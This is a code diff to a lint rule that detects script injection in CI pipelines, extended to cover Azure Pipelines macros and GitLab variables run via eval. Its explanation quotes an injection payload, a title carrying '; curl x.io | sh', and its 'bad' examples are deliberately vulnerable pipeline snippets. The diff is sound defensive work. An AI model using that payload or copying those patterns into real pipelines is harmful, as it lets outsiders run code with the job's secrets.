@@ -8,6 +8,7 @@ import {
   type WorkflowStep,
 } from '../rule-support/pipelines/github-workflow';
 import { throughEnvironment } from '../rule-support/pipelines/through-environment';
+import { outsiderInScript } from '../rule-support/pipelines/outsider-in-script';
 import { outsiderExpressions } from '../rule-support/pipelines/outsider-expression';
 
 /** Inputs that an action runs as a script, by action. */
@@ -23,6 +24,17 @@ const SCRIPT_INPUTS: readonly (readonly [RegExp, readonly string[]])[] = [
 ];
 
 function check(root: DataNode, context: RuleContext): void {
+  for (const { text, range, how } of outsiderInScript(root, context.path)) {
+    context.report({
+      at: range,
+      subject: text,
+      severity: 'warning',
+      message:
+        how === 'replaced'
+          ? `\`${text}\` is written by whoever commits or opens the pull request, and becomes part of the script before it runs. Give it to the step in \`env:\` and read the variable, quoted, in the script.`
+          : `\`${text}\` runs text that whoever commits or opens the merge request writes as a command. Read the variable, quoted, without evaluating it.`,
+    });
+  }
   const workflow = githubWorkflow(root, context);
   if (!workflow) return;
   for (const { steps } of workflow.jobs)
@@ -79,7 +91,7 @@ export const rule: Rule = {
   since: '0.1.0',
   tags: ['ci', 'injection', 'supply-chain'],
   languages: ['yaml'],
-  what: 'Finds `${{ … }}` with a title, text, branch name, commit message or comment that an outsider writes, inside `run:` or a script given to an action (`actions/github-script` and others), in GitHub workflows and actions; also by way of `${{ env.X }}`. Inputs of who may start the workflow are information. Expressions that only compare or search, and values given through `env:` and read as a shell variable, are left alone.',
+  what: 'Finds `${{ … }}` with a title, text, branch name, commit message or comment that an outsider writes, inside `run:` or a script given to an action (`actions/github-script` and others), in GitHub workflows and actions; macros of Azure Pipelines with such text (`$(Build.SourceVersionMessage)`), and variables of GitLab that `eval` or `sh -c` runs; also by way of `${{ env.X }}`. Inputs of who may start the workflow are information. Expressions that only compare or search, and values given through `env:` and read as a shell variable, are left alone.',
   why: 'The expression is replaced before the shell starts, so a title such as `"; curl x.io | sh; #` is a command. It runs with the token and the secrets of the job: keys of model providers, rights to push models and packages.',
   fix: 'Put the value into the environment (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script, or `process.env.TITLE` in JavaScript.',
   references: [
@@ -94,6 +106,18 @@ export const rule: Rule = {
   ],
   examples: {
     bad: [
+      {
+        title: 'Azure Pipelines',
+        code: 'steps:\n  - script: echo "$(Build.SourceVersionMessage)"\n  - bash: |\n      set -e\n      git checkout $(System.PullRequest.SourceBranch)\n',
+        file: 'azure-pipelines.yml',
+        findings: 2,
+      },
+      {
+        title: 'GitLab',
+        code: 'train:\n  script:\n    - eval "python train.py $CI_COMMIT_MESSAGE"\n    - bash -c "echo ${CI_MERGE_REQUEST_TITLE}"\n',
+        file: '.gitlab-ci.yml',
+        findings: 2,
+      },
       {
         title: 'a title',
         code: `${HEAD}      - run: echo "\${{ github.event.issue.title }}"\n`,
@@ -146,6 +170,16 @@ export const rule: Rule = {
       },
     ],
     good: [
+      {
+        title: 'other values of Azure Pipelines',
+        code: 'steps:\n  - script: echo $(Build.BuildId) "$MESSAGE"\n    env:\n      MESSAGE: $(Build.SourceVersionMessage)\n',
+        file: 'azure-pipelines.yml',
+      },
+      {
+        title: 'variables of GitLab that are only read',
+        code: 'train:\n  script:\n    - echo "$CI_COMMIT_MESSAGE"\n    - eval "$(ssh-agent -s)"\n    - python train.py --branch "$CI_COMMIT_BRANCH"\n',
+        file: '.gitlab-ci.yml',
+      },
       {
         title: 'through the environment',
         code: `${HEAD}      - run: echo "$TITLE"\n        env:\n          TITLE: \${{ github.event.issue.title }}\n`,
